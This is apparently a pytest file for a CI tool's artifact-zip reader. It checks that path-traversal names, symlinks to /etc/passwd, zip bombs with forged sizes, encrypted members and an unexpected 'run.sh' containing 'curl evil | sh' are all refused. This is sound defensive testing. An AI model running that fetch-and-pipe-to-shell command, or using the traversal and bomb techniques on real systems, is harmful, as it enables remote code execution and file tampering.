"""Artifact zips are hostile input: every way one can be wrong is refused with one line."""

from __future__ import annotations

import hashlib
import io
import stat
import struct
import zipfile

import pytest
from suite_paths import BAD_INPUTS_PROJECT

from ci_eval.errors import InputError
from ci_eval.github.artifact_zip import build_zip, read_artifact_zip

SOURCE = "artifact ci-eval (id 42)"
RUN = b'{"schema_version": 1}'


def raw_zip(entries, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A zip written entry by entry, names and attributes exactly as given."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content, mode in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = compression
            info.create_system = 3
            info.external_attr = mode << 16
            archive.writestr(info, content)
    return buffer.getvalue()


def forge_sizes(data: bytes, name: str, declared: int) -> bytes:
    """Rewrite ``name``'s uncompressed size in both headers, as a zip bomb's author would."""
    out = bytearray(data)
    encoded = name.encode()
    local = out.find(b"PK\x03\x04")
    while local != -1:
        name_len = struct.unpack_from("<H", out, local + 26)[0]
        if out[local + 30 : local + 30 + name_len] == encoded:
            struct.pack_into("<I", out, local + 22, declared)
        local = out.find(b"PK\x03\x04", local + 4)
    central = out.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", out, central + 28)[0]
        if out[central + 46 : central + 46 + name_len] == encoded:
            struct.pack_into("<I", out, central + 24, declared)
        central = out.find(b"PK\x01\x02", central + 4)
    return bytes(out)


def refused(data: bytes, **limits) -> str:
    with pytest.raises(InputError) as caught:
        read_artifact_zip(data, SOURCE, **limits)
    message = str(caught.value)
    assert message.startswith(SOURCE + ": ") and "\n" not in message
    return message


def test_a_well_formed_artifact_is_read():
    data = build_zip(
        {
            "ci-eval-run.json": RUN,
            "comment.md": b"<!-- ci-eval -->\nhi",
            "pr.json": b'{"number": 7}',
        }
    )
    members = read_artifact_zip(data, SOURCE)
    assert members == {
        "ci-eval-run.json": RUN,
        "comment.md": b"<!-- ci-eval -->\nhi",
        "pr.json": b'{"number": 7}',
    }


def test_stored_members_are_read_too():
    data = raw_zip(
        [("ci-eval-run.json", RUN, stat.S_IFREG | 0o644)], compression=zipfile.ZIP_STORED
    )
    assert read_artifact_zip(data, SOURCE) == {"ci-eval-run.json": RUN}


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../ci-eval-run.json", "path-traversal member name"),
        ("a/../../etc/passwd", "path-traversal member name"),
        ("/etc/passwd", "absolute member name"),
        ("C:/x.json", "absolute member name"),
        ("..\\ci-eval-run.json", "backslash in member name"),
        ("nested/ci-eval-run.json", "member in a folder"),
        ("./ci-eval-run.json", "path-traversal member name"),
    ],
)
def test_unsafe_member_names_are_refused(name, expected):
    data = raw_zip(
        [("ci-eval-run.json", RUN, stat.S_IFREG | 0o644), (name, b"x", stat.S_IFREG | 0o644)]
    )
    assert expected in refused(data)


def test_a_symlink_is_refused():
    data = raw_zip([("ci-eval-run.json", b"/etc/passwd", stat.S_IFLNK | 0o777)])
    assert "symbolic link 'ci-eval-run.json'" in refused(data)


def test_a_folder_entry_is_refused():
    data = raw_zip(
        [
            ("ci-eval-run.json", RUN, stat.S_IFREG | 0o644),
            ("comment.md/", b"", stat.S_IFDIR | 0o755),
        ]
    )
    assert "folder" in refused(data)


def test_unexpected_members_are_refused():
    data = build_zip({"ci-eval-run.json": RUN, "run.sh": b"curl evil | sh"})
    assert refused(data) == (
        f"{SOURCE}: unexpected member 'run.sh' (expected only: ci-eval-run.json, comment.md, pr.json)"
    )


def test_a_missing_run_member_is_refused():
    assert (
        refused(build_zip({"comment.md": b"hi"})) == f"{SOURCE}: missing member 'ci-eval-run.json'"
    )


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_duplicate_members_are_refused():
    data = raw_zip(
        [
            ("ci-eval-run.json", RUN, stat.S_IFREG | 0o644),
            ("ci-eval-run.json", b"{}", stat.S_IFREG | 0o644),
        ]
    )
    assert "duplicate member 'ci-eval-run.json'" in refused(data)


@pytest.mark.parametrize("data", [b"", b"not a zip at all", b"PK\x03\x04" + b"\x00" * 40])
def test_corrupt_bytes_are_refused(data):
    assert "not a valid zip archive" in refused(data)


def test_a_corrupted_member_is_refused():
    noise = b"".join(hashlib.sha256(str(i).encode()).digest() for i in range(200))  # incompressible
    data = bytearray(build_zip({"ci-eval-run.json": noise}))
    start = data.find(b"ci-eval-run.json") + len("ci-eval-run.json")
    for i in range(start + 100, start + 120):  # inside the deflated data, away from the headers
        data[i] ^= 0xFF
    assert "is corrupt" in refused(bytes(data))


def test_an_oversized_download_is_refused_before_opening():
    data = build_zip({"ci-eval-run.json": RUN})
    assert f"the zip is {len(data)} bytes, over the 64-byte limit" in refused(
        data, max_compressed=64
    )


def test_a_zip_bomb_is_refused_by_its_declared_size():
    bomb = build_zip({"ci-eval-run.json": b"\0" * 5_000_000})
    assert len(bomb) < 10_000
    message = refused(bomb, max_member=1_000_000)
    assert "declares 5000000 bytes, over the 1000000-byte limit" in message


def test_a_zip_bomb_that_lies_about_its_size_is_refused_while_reading():
    bomb = forge_sizes(build_zip({"ci-eval-run.json": b"\0" * 5_000_000}), "ci-eval-run.json", 100)
    assert zipfile.ZipFile(io.BytesIO(bomb)).getinfo("ci-eval-run.json").file_size == 100
    message = refused(bomb, max_member=1_000_000)
    assert "'ci-eval-run.json'" in message and ("corrupt" in message or "inflates past" in message)


def test_the_total_of_all_members_is_capped():
    data = build_zip({"ci-eval-run.json": b"a" * 600, "comment.md": b"b" * 600})
    assert "members declare 1200 bytes in all, over the 1000-byte limit" in refused(
        data, max_total=1000
    )


def test_an_encrypted_member_is_refused():
    data = bytearray(build_zip({"ci-eval-run.json": RUN}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        flags = struct.unpack_from("<H", data, at + offset)[0]
        struct.pack_into("<H", data, at + offset, flags | 0x1)
    assert "encrypted member" in refused(bytes(data))


def test_other_compression_methods_are_refused():
    data = raw_zip([("ci-eval-run.json", RUN, stat.S_IFREG | 0o644)], compression=zipfile.ZIP_BZIP2)
    assert "compression method 12" in refused(data)


def test_build_zip_round_trips_in_order():
    members = {"pr.json": b"{}", "ci-eval-run.json": RUN}
    data = build_zip(members)
    assert [i.filename for i in zipfile.ZipFile(io.BytesIO(data)).infolist()] == [
        "pr.json",
        "ci-eval-run.json",
    ]
    assert read_artifact_zip(data, SOURCE) == members


def test_the_writer_and_the_baseline_reader_share_one_limit():
    from ci_eval.github import artifact_zip
    from ci_eval.inputs.loaders import MAX_ARTEFACT_BYTES

    assert artifact_zip.MAX_MEMBER_BYTES == MAX_ARTEFACT_BYTES
    assert artifact_zip.MAX_TOTAL_BYTES > MAX_ARTEFACT_BYTES
    # A 100,000-question artefact (version 2: about 500 bytes a question at depth 15) fits twice over.
    assert MAX_ARTEFACT_BYTES > 2 * 100_000 * 500


def test_an_artefact_over_the_limit_is_refused_when_written_and_what_fits_is_read_back(tmp_path):
    import json

    from ci_eval.core.artefact.artefact_writer import END_KEYS, artefact_pieces
    from ci_eval.core.artefact.question_row import to_row
    from ci_eval.inputs.artefact_file import run_from_bytes
    from ci_eval.inputs.artefact_out import write_artefact

    base = json.loads((BAD_INPUTS_PROJECT / "base.json").read_text())
    head = {k: v for k, v in base.items() if k not in END_KEYS and k != "questions"}
    head["schema_version"] = 2

    def write(path, limit):
        rows = (to_row(q, base["metrics"]) for q in base["questions"])
        end = {k: v for k, v in base.items() if k in END_KEYS}
        return write_artefact(path, artefact_pieces(head, rows, lambda: end), 3, limit)

    size = write(tmp_path / "big.json", 10**9)
    data = (tmp_path / "big.json").read_bytes()
    assert len(data) == size
    # What the writer accepts at a limit, a reader with that limit reads.
    members = read_artifact_zip(build_zip({"ci-eval-run.json": data}), "zip", max_member=size)
    assert run_from_bytes(members["ci-eval-run.json"], "zip").header.k == base["k"]
    assert write(tmp_path / "exact.json", size) == size
    with pytest.raises(InputError) as refused:
        write(tmp_path / "over.json", size - 1)
    assert not (tmp_path / "over.json").exists() and [p.name for p in tmp_path.iterdir()] == ["big.json", "exact.json"]
    assert str(refused.value) == (
        f"{tmp_path / 'over.json'}: the run artefact would be over the {size - 1:,}-byte limit a later run "
        f"reads as its baseline (past {size:,} bytes, 3 questions): every pull request would skip it; "
        "measure fewer questions or a smaller retriever.depth")
